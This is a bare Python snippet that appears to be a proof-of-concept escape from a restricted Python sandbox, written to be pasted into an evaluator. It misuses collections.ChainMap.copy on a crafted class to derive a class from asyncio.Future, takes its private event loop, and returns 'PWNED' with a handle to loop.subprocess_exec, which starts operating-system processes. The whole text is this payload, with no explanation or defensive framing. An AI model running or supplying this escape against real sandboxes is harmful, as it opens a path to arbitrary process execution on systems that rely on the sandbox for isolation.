import asyncio
import collections


class Name:
    def copy(self):
        return "Mine"


class Own:
    maps = [Name(), (), {}]


Own.maps[1] = (Own, asyncio.Future)
Mine = collections.ChainMap.copy(Own)


async def main():
    return Mine()._loop


loop = asyncio.run(main())
return "PWNED " + repr(loop.subprocess_exec)
